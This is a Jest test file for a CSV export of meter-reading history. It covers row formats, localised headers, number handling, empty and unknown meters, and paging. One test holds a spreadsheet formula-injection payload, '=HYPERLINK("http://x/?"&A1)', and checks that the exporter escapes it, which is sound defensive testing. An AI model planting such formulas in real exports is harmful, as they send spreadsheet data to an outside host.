import { beforeEach, describe, expect, it, jest } from '@jest/globals'
import { mockCloud } from '../../tests/mocks/wxServerSdk'
import { boardCall, dayDocument, meterDocument, NOON } from '../../tests/support/board'
import { failureOf } from '../../tests/support/failure'
import { addDays, eachDay, startOfDay } from '../meter/day'
import { exportHistory } from './export'

jest.mock('wx-server-sdk', () => mockCloud.sdk)

const METER = 'c/k'
const RANGE = { meter: METER, from: '20261101', to: '20261121' }

function store(days: Record<string, unknown>[], meter: Record<string, unknown> = {}) {
  mockCloud.store.create('yl_meters', [meterDocument('c', 'k', meter)])
  mockCloud.store.create('yl_readings', days)
}

describe('exportHistory', () => {
  beforeEach(() => mockCloud.reset())

  it('writes a row per day, amounts exactly as stored', async () => {
    const amounts = { open: '-0.10', close: '12345678901234567890.123456789', min: '-0.10', max: '1' }
    store([dayDocument(METER, '20261120', null, { ...amounts, consumed: '2', added: '3', returned: '4' })])
    expect(await exportHistory({ ...RANGE, rows: 'days' }, boardCall())).toEqual({
      fileName: 'Meter-k-days-20261101-20261121.csv',
      csv:
        '\uFEFFDay,Meter,Key,Unit,Open,Close,Lowest,Highest,Consumed,Added,Returned\r\n' +
        '2026-11-20,Meter k,k,waybills,-0.10,12345678901234567890.123456789,-0.10,1,2,3,4\r\n',
      rows: 1,
      partial: false,
    })
  })

  it('writes a row per point, in Shanghai time, with a header in the language of the call', async () => {
    const at = Date.UTC(2026, 10, 21, 12, 10, 7)
    store([dayDocument(METER, '20261121', [[at, '-5']]), dayDocument(METER, '20261001', [[NOON, '1']])])
    const { csv, fileName, rows } = await exportHistory({ ...RANGE, rows: 'points' }, boardCall({ language: 'zh' }))
    expect(csv).toBe('\uFEFF时间（北京时间）,额度,编号,单位,数值\r\n2026-11-21 20:10:07,额度 k,k,waybills,-5\r\n')
    expect(fileName).toBe('额度-k-明细-20261101-20261121.csv')
    expect(rows).toBe(1)
  })

  it('takes the sting out of a name that is a formula, in the cells and in the file name', async () => {
    const title = '=HYPERLINK("http://x/?"&A1)'
    store([dayDocument(METER, '20261120', [[NOON, '1']])], { title: { zh: title, en: title } })
    const { csv, fileName } = await exportHistory({ ...RANGE, rows: 'points' }, boardCall())
    expect(csv).toContain(`"'=HYPERLINK(""http://x/?""&A1)"`)
    expect(fileName).toBe('=HYPERLINK(-http-x-&A1)-points-20261101-20261121.csv')
  })

  it('keeps a key and a title of digits text, and amounts numbers', async () => {
    mockCloud.store.create('yl_meters', [meterDocument('c', '007', { title: { zh: '12', en: '1234567890123456789' } })])
    mockCloud.store.create('yl_readings', [dayDocument('c/007', '20261120', [[NOON, '-1.50']])])
    const input = { ...RANGE, meter: 'c/007', rows: 'points' } as const
    const { csv } = await exportHistory(input, boardCall())
    expect(csv).toMatch(/\r\n2026-[-\d]+ [:\d]+,'1234567890123456789,'007,waybills,-1\.50\r\n$/)
  })

  it('is a header alone where nothing was read', async () => {
    store([])
    expect(await exportHistory({ ...RANGE, rows: 'points' }, boardCall())).toMatchObject({ rows: 0, partial: false })
  })

  it('is NOT_FOUND for an unknown meter', async () => {
    const error = await failureOf(exportHistory({ ...RANGE, rows: 'days' }, boardCall()))
    expect(error.code).toBe('NOT_FOUND')
  })

  it('goes on in another answer when one would be too large: every row once, each answer below 900 KB', async () => {
    const title = '余'.repeat(60)
    const all = eachDay('20261018', '20261121').map(day => {
      const points = Array.from({ length: 480 }, (_, n): [number, string] => [
        startOfDay(day) + n * 180_000,
        `${day}.${n}`,
      ])
      return dayDocument(METER, day, points)
    })
    store(all, { title: { zh: title, en: title } })
    const values: string[] = []
    let from: string | undefined = '20261018'
    let answers = 0
    while (from !== undefined) {
      const answer = await exportHistory({ meter: METER, from, to: '20261121', rows: 'points' }, boardCall())
      expect(Buffer.byteLength(JSON.stringify(answer))).toBeLessThan(900_000)
      expect(answer.partial).toBe(answer.next !== undefined)
      const lines = answer.csv.trim().split('\r\n').slice(1)
      expect(answer.rows).toBe(lines.length)
      values.push(...lines.map(line => line.split(',')[4] ?? ''))
      from = answer.next
      answers += 1
    }
    expect(answers).toBeGreaterThan(2)
    expect(values).toEqual(all.flatMap(({ points }) => (points as [number, string][]).map(([, value]) => value)))
  })

  it('of 25 months of days fits into one answer, by nine queries', async () => {
    const days = eachDay(addDays('20261121', -760), '20261121')
    store(days.map(day => dayDocument(METER, day, null)))
    const call = boardCall()
    const answer = await exportHistory(
      { meter: METER, from: addDays('20261121', -760), to: '20261121', rows: 'days' },
      call,
    )
    expect(answer).toMatchObject({ rows: 761, partial: false })
    expect(call.tally.databaseReads).toBe(9)
  })
})
